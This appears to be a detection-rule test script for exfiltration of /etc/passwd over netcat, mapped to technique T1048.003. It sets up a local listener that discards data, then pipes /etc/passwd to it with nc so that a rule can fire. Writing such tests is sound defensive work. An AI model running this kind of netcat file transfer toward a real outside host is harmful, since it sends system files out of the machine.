# technique: T1048.003 /etc/passwd sent with nc
# rule: sensitive_file_sent_by_netcat
. "$(dirname "$0")/common.bash"
python3 - "$VG_PORT" <<'PY' &
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1); s.settimeout(20)
c, _ = s.accept()
while c.recv(65536):
    pass
PY
on_exit "kill $! 2>/dev/null"
wait_port
sh -c "nc -N 127.0.0.1 $VG_PORT < /etc/passwd"
